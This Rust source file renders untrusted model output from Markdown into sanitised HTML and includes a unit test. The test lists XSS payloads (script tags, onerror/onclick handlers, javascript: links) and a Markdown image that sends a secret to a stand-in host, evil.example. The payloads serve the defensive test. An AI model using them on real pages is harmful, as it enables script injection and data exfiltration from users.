//! Model output is untrusted: Markdown is rendered on the server and sanitised before the page sees it.

use pulldown_cmark::{Options, Parser, html};

/// Markdown to HTML with everything dangerous removed: scripts, event handlers, `javascript:` URLs, styles,
/// and images (an image URL could carry data out of the page). Links open without a referrer.
pub fn markdown(text: &str) -> String {
    let parser = Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH);
    let mut unsafe_html = String::new();
    html::push_html(&mut unsafe_html, parser);
    ammonia::Builder::default()
        .rm_tags(&["img"])
        .url_schemes(["http", "https", "mailto"].into_iter().collect())
        .link_rel(Some("noopener noreferrer nofollow"))
        .clean(&unsafe_html)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::markdown;

    #[test]
    fn renders_and_sanitises() {
        let html = markdown("**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        assert!(
            html.contains("<strong>bold</strong>") && html.contains("<code>code</code>") && html.contains("<table>")
        );
        for hostile in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<div onclick=\"alert(1)\">x</div>",
            "![exfil](https://evil.example/?d=secret)",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<style>body{display:none}</style>",
        ] {
            let out = markdown(hostile).to_ascii_lowercase();
            for bad in ["<script", "onerror", "javascript:", "onclick", "<img", "<iframe", "<style"] {
                assert!(!out.contains(bad), "{hostile} -> {out}");
            }
        }
        assert!(markdown("[docs](https://example.com)").contains("rel=\"noopener noreferrer nofollow\""));
    }
}
